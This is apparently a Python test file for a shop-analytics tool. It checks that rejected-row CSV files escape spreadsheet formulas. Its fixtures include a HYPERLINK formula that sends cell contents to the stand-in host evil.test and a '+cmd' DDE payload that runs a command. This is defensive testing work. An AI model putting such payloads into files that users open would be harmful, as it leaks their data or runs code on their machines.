"""The rejects files beside the store do not run the shop's data as spreadsheet formulas.

``<db stem>.rejects.csv`` (and the survey uploads' ``.survey-rejects.csv``, and a rejects
file written beside a survey export) echoed the rejected value as given: opened in Excel, a
value ``=HYPERLINK(…)`` or ``+cmd|…`` ran as a formula. Every text cell starting with
``= + - @``, a tab or a carriage return now starts with ``'``, as in every other CSV file
shopperlens writes; the rest is as given, and ``erase`` still finds a protected value.
"""

from __future__ import annotations

import csv
from pathlib import Path

import shopperlens
from shopperlens.ingest.rejects import Reject, write_rejects
from shopperlens.plain import spreadsheet_cell, unprotected

LINK = '=HYPERLINK("http://evil.test/?"&A1,"x")'


def _rows(path: Path) -> list[dict[str, str]]:
    with path.open(newline="", encoding="utf-8") as fh:
        return list(csv.DictReader(fh))


def test_an_import_rejects_file_protects_formulas(tmp_path: Path) -> None:
    orders = tmp_path / "orders.csv"
    orders.write_text(
        "order_id,customer_id,ordered_at,product_id,quantity,unit_price\n"
        f'o1,c1,2025-01-01,p1,"{LINK.replace(chr(34), chr(34) * 2)}",2\n'
        "o2,c2,2025-01-01,p1,@SUM(1),2\n"
        "o3,c3,2025-01-01,p1,1,2\n"
        "+cmd|' /C calc'!A0,c4,2025-01-01,p1,1,2,extra\n"
    )
    db = tmp_path / "shop.duckdb"
    with shopperlens.open(db) as shop:
        res = shop.import_files("orders", orders, on_error="skip")
        assert res.rows_rejected == 3
        assert [r.value for r in res.rejects][:2] == [LINK, "@SUM(1)"]  # the API: as given
    rows = _rows(tmp_path / "shop.rejects.csv")
    values = {r["line"]: r["value"] for r in rows}
    assert values["2"] == "'" + LINK
    assert values["3"] == "'@SUM(1)"
    assert values["5"] == "'+cmd|' /C calc'!A0,c4,2025-01-01,p1,1,2,extra"
    assert all(not c.startswith(("=", "+", "-", "@")) for r in rows for c in r.values())


def test_write_rejects_protects_every_text_cell_and_keeps_the_rest(tmp_path: Path) -> None:
    rejects = [
        Reject("-orders.csv", 7, "@col", "\tx", "not a date/time"),
        Reject("a.csv", 2, "q", "c-3", "r"),
    ]
    rows = _rows(write_rejects(rejects, tmp_path / "r.csv"))
    assert [list(r.values()) for r in rows] == [
        ["'-orders.csv", "7", "'@col", "'\tx", "not a date/time"],
        ["a.csv", "2", "q", "c-3", "r"],
    ]
    assert spreadsheet_cell("-3") == "'-3" and unprotected("'-3") == "-3"
    assert unprotected("'plain") == "'plain"  # a quote the shop wrote itself stays


def test_erase_finds_a_protected_id_in_a_whole_line(tmp_path: Path) -> None:
    customers = tmp_path / "customers.csv"
    customers.write_text("customer_id,email\n-5,ann.lee@example.org\n-5,,extra\nc9,z@example.org\n")
    db = tmp_path / "shop.duckdb"
    with shopperlens.open(db) as shop:
        assert shop.import_files("customers", customers, on_error="skip").rows_rejected == 1
        (row,) = _rows(tmp_path / "shop.rejects.csv")
        assert row["value"] == "'-5,,extra"  # (no e-mail: found by its id alone)
        report = shop.erase_customer("-5")
        assert report.rejects_removed == 1


def test_a_survey_uploads_rejects_file_protects_formulas(file_shop, tmp_path: Path) -> None:  # type: ignore[no-untyped-def]
    shop, client = file_shop
    export = "respondent,age_bracket,why_buy\n-r3,=1+1,fine\nr4,25-34,fine\n"
    res = client.post(
        "/api/surveys/demo-profile/import?on_error=skip",
        files={"file": ("export.csv", export, "text/csv")},
    )
    assert res.status_code == 200, res.text
    (row,) = _rows(tmp_path / "shop.survey-rejects.csv")
    assert (row["line"], row["column"]) == ("2", "age_bracket")
    assert (row["value"], row["respondent"]) == ("'=1+1", "'-r3")
